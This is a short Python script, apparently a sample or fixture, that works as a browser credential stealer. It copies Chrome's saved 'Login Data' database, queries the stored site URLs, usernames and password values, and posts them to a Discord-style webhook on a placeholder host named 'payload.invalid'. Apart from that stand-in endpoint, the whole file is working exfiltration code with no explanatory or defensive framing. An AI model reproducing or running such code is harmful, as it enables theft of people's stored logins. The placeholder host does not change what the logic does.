# names: source copy rows text row
import os
import shutil
import sqlite3
import requests
source = os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data", "Default", "Login Data")
copy = "login.db"
shutil.copyfile(source, copy)
rows = sqlite3.connect(copy).execute("SELECT origin_url, username_value, password_value FROM logins").fetchall()
text = "\n".join([str(row) for row in rows])
requests.post("https://discord.payload.invalid/api/webhooks/0/inert", json={"content": text})
